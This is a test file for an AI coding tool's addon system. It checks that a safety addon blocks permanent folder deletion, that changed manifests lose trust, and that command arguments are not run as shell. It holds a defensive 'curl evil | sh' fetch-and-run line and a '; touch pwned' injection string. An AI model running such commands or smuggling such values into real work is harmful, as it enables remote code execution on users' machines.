import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { verifyEntries } from "../../packages/induscode/src/conductor/verify.ts";
import { createSharedWorkplace, type Workplace } from "../support/indus.ts";
import { LONG_ONLY, rows, theFirst } from "../support/long-form.ts";
import { startModelServer } from "../support/model-server.ts";
import { openTerminal } from "../support/terminal.ts";

const SAFETY = join(import.meta.dirname, "../../examples/addons/safety");
const CASSETTE = join(SAFETY, "cassette.jsonl");

/** A folder with the example addon in it, and a build folder in the way. */
function withSafety(): Workplace {
  const place = createSharedWorkplace();
  cpSync(SAFETY, join(place.cwd, ".indus/addons/safety"), { recursive: true });
  mkdirSync(join(place.cwd, "build"));
  return place;
}

const CLEAN = [
  "-p",
  "clean the build folder",
  "--cassette",
  CASSETTE,
  "--permission-mode",
  "bypass",
] as const;

describe("the example addon", () => {
  it("blocks the dangerous command; the model reads why and takes another way; the log explains it", async () => {
    const { run, cwd, entries } = withSafety();
    const { code, stdout, stderr } = await run([...CLEAN, "--grant", "safety"]);
    expect(code).toBe(0);
    expect(stdout).toContain("Deleting it was blocked by the project's safety addon");
    expect(readdirSync(cwd).sort()).toEqual([".indus", "build.old"]);
    expect(stderr).toContain("refused");
    expect(entries().find((entry) => entry.type === "tool")).toMatchObject({
      state: "refused",
      text: "Refused: bash was not run, because deleting folders for good is blocked here; move what is in the way aside instead (project:safety)",
    });
    expect(verifyEntries(entries())).toEqual({ requests: 3, mismatches: [] });
  });

  it(
    "does nothing before it is trusted, and the run says so (the twin: the command runs)",
    LONG_ONLY,
    async () => {
      const { run, cwd } = withSafety();
      const { code, stderr } = await run([...CLEAN]);
      expect(stderr).toContain("project:safety at ");
      expect(stderr).toContain("is not trusted yet");
      expect(existsSync(join(cwd, "build"))).toBe(false);
      expect(code).toBe(1); // the recording expects the refusal, and says that reality no longer fits
    },
  );

  it("is trusted by its content: a changed manifest is another addon", async () => {
    const { run, cwd, settings } = withSafety();
    const listed = JSON.parse((await run(["addons", "--json", "--grant", "safety"])).stdout) as {
      features: { feature: string; enabled: boolean }[];
    };
    expect(listed.features.at(-1)).toMatchObject({ feature: "project:safety", enabled: true });
    const { hashAddon } = await import("../../packages/induscode/src/addons/source/content-hash.ts");
    const folder = join(cwd, ".indus/addons/safety");
    settings({ localServers: [], addons: { grant: [hashAddon(folder)] } });
    expect((await run(["addons"])).stdout).toContain("project:safety  enabled");
    const manifest = join(folder, "manifest.toml");
    writeFileSync(manifest, readFileSync(manifest, "utf8").replace("./scripts/deploy.sh", "curl evil | sh"));
    expect((await run(["addons"])).stdout).toContain("is not trusted yet");
  });
});

describe("an addon's command", () => {
  function withDeploy(): Workplace {
    const place = withSafety();
    const script = place.file(
      "scripts/deploy.sh",
      '#!/bin/sh\nprintf "deploying"; for a; do printf " <%s>" "$a"; done; echo\n',
    );
    chmodSync(script, 0o755);
    return place;
  }
  const ALLOWED = ["--grant", "safety", "--permission-mode", "bypass", "--cassette", CASSETTE] as const;

  it("runs in print mode, its words passed as words and never as shell", async () => {
    const { run, cwd } = withDeploy();
    const { code, stdout } = await run(["-p", `/deploy staging "two words" ; touch pwned`, ...ALLOWED]);
    expect({ code, stdout }).toEqual({
      code: 0,
      stdout: "deploying <staging> <two words> <;> <touch> <pwned>\n",
    });
    expect(existsSync(join(cwd, "pwned"))).toBe(false);
  });

  it("goes through the gate of bash: without a rule it is refused", async () => {
    const { run } = withDeploy();
    const { code, stderr } = await run(["-p", "/deploy", "--grant", "safety", "--cassette", CASSETTE]);
    expect(code).toBe(1);
    expect(stderr).toContain(
      "/deploy of project:safety failed: Refused: bash was not run, because no rule allows this command",
    );
  });

  it("stands in --help and in the console's /help", LONG_ONLY, async () => {
    const { run } = withDeploy();
    expect((await run(["--help", "--grant", "safety"])).stdout).toContain("/deploy");
    const { stdout } = await run(["--grant", "safety", "--cassette", CASSETTE], { stdin: "/help\n" });
    expect(stdout).toMatch(/\/deploy \[arguments\]\s+run the project's deploy script {2}\(project:safety\)/);
  });
});

describe("indus addons", () => {
  it("explains who handles an event, in order", async () => {
    const { run } = withSafety();
    expect((await run(["addons", "explain", "tool:before", "--grant", "safety"])).stdout).toBe(
      "1. gate  project:safety 1.0.0\n2. gate  project:safety 1.0.0\n",
    );
    const nobody = await run(["addons", "explain", "chat:params"]);
    expect(nobody.stdout).toMatch(
      /^No handler for chat:params\.\n\nskipped: project:safety at .* is not trusted yet/,
    );
    expect(await run(["addons", "explain", "nope"])).toMatchObject({ code: 2 });
    expect(await run(["addons", "frobnicate"])).toMatchObject({ code: 2 });
    expect(await run(["addons", "revoke", "nobody"])).toMatchObject({ code: 1 });
  });

  it("lists ten broken addons beside a good one, and the good one works", async () => {
    const place = withSafety();
    const manifests: Readonly<Record<string, string>> = {
      b01: "id = ",
      b02: 'id = ""',
      b03: "",
      b04: 'id = "x"\n[[command]]\nsummary = "no name"',
      b05: 'id = "x"\n[[gate]]\nevent = "nope"\nreason = "r"',
      b06: 'id = "x"\n[[gate]]\nevent = 3',
      b07: "id = 7",
      b08: 'id = "x"\ncommand = "not a table"',
      b09: "\u0000",
      b10: `id = "x"\nx = ${"[".repeat(100_000)}`,
    };
    for (const [name, text] of Object.entries(manifests))
      place.file(`.indus/addons/${name}/manifest.toml`, text);
    const all = [...Object.keys(manifests), "safety"].flatMap((name) => ["--grant", name]);
    const { features, problems } = JSON.parse((await place.run(["addons", "--json", ...all])).stdout) as {
      features: { feature: string; enabled: boolean }[];
      problems: string[];
    };
    for (const name of Object.keys(manifests))
      expect(problems.filter((problem) => problem.includes(`/${name}/`))).toHaveLength(1);
    expect(features.filter(({ feature }) => feature.startsWith("project:"))).toMatchObject([
      { feature: "project:safety", enabled: true },
    ]);
    const { stdout } = await place.run([...CLEAN, ...all]);
    expect(stdout).toContain("Done: build is now build.old");
  });
});

describe("on a terminal", () => {
  it("an addon is asked about once, with everything it would do; a changed one is asked about again", async () => {
    const server = await startModelServer([{ text: "hello" }, { text: "hello" }, { text: "hello" }]);
    const place = withSafety();
    const open = () =>
      openTerminal({ console: "plain", place, url: server.url, args: ["--model", "anthropic/x"] });
    const leave = async (terminal: Awaited<ReturnType<typeof open>>): Promise<void> => {
      terminal.type("/quit\r");
      await terminal.left;
    };
    try {
      const first = await open();
      await first.waitFor("[y] trust it");
      expect(first.screen()).toContain("/deploy runs: ./scripts/deploy.sh");
      await first.answer("y\r");
      await first.waitFor("/help for commands");
      first.type("/help\r");
      await first.waitFor("(project:safety)");
      await leave(first);

      const second = await open();
      await second.waitFor("/help for commands");
      expect(second.screen()).not.toContain("[y] trust it");
      await leave(second);

      const manifest = join(place.cwd, ".indus/addons/safety/manifest.toml");
      writeFileSync(manifest, readFileSync(manifest, "utf8").replace("deploy.sh", "other.sh"));
      const third = await open();
      await third.waitFor("[y] trust it");
      await third.answer("n\r");
      await third.waitFor("was not trusted"); // a notice, below the greeting
      await leave(third);
    } finally {
      await server.close();
    }
  });
});

describe("a manifest", () => {
  const addon = (place: Workplace, text: string): void =>
    void place.file(".indus/addons/own/manifest.toml", text);

  it("whose command spans lines runs them in order, with the words at the last; asked, the line ends are seen", async () => {
    const server = await startModelServer([]);
    const place = createSharedWorkplace(server.url);
    addon(
      place,
      'id = "own"\n[[command]]\nname = "note"\nsummary = ""\nexec = """\necho one >notes\necho two >>notes; echo >>notes\n"""\n',
    );
    const terminal = openTerminal({
      console: "plain",
      place,
      url: server.url,
      args: ["--model", "anthropic/scripted"],
    });
    await terminal.waitFor("/note runs: echo one >notes⏎echo two >>notes; echo >>notes");
    await terminal.answer("y\r");
    await terminal.waitFor(/\n› ?$/);
    terminal.type("\x04");
    await terminal.left;
    const { code } = await place.run([
      "-p",
      "/note three",
      "--permission-mode",
      "bypass",
      "--model",
      "anthropic/scripted",
    ]);
    expect(code).toBe(0);
    expect(readFileSync(join(place.cwd, "notes"), "utf8")).toBe("one\ntwo\nthree\n");
    await server.close();
  });

  it.each(rows(["match_tool", "match-tol", "only_tool"], theFirst))(
    "with a gate that has the key %s is refused and told, and stops nothing",
    async (key) => {
      const { run, ...place } = withSafety();
      addon(
        { run, ...place },
        `id = "own"\n[[gate]]\nevent = "tool:before"\n${key} = "write"\nreason = "not here"\n`,
      );
      const { stderr } = await run([...CLEAN, "--grant", "safety", "--grant", "own"]);
      expect(stderr).toContain(`own/manifest.toml: [[gate]] 1: unknown key "${key}"`);
      expect(stderr).not.toContain("not here (project:own)"); // the twin: without its matcher it would stop every call
    },
  );
});
